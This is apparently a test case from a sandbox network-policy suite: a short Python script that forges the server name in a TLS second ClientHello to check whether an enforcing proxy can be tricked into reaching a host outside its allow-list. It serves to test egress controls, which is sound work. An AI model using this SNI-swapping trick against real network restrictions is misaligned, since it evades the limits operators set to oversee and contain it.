# /// attack
# guarantee = "network"
# summary = "Names another site in a second ClientHello, which the server asks for and follows."
# reference = "RFC 8446, 4.1.2"
# success = "the server hears the other name"
# stage = ["internet"]
# observe = ["seven"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:443", "example.org:8443"] } }
# refusal = { default = "proxy the TLS connection is for" }
# ///

import ssl
import time

from kit import could_not_run, refused, succeeded, target, tunnel


def hello(name):
    """Return a TLS object for ``name`` with its two ends, behind its first message."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(into, out, server_hostname=name)
    step(tls)
    return tls, into, out


def step(tls):
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass


sock = tunnel("example.org", 8443)
tls, into, out = hello("example.org")
sock.sendall(out.read())
into.write(sock.recv(1 << 16))
step(tls)
second = out.read()
other = target("MARKER")[-7:] + ".net"
forged = second.replace(b"example.org", other.encode())
if forged == second:
    could_not_run("the server has not asked again")
sock.sendall(forged)
try:
    answer = sock.recv(7)
except OSError as error:
    refused(error)
if answer[:1] in (b"\x14", b"\x16", b"\x17"):
    succeeded()
time.sleep(0.1)
refused("an alert")
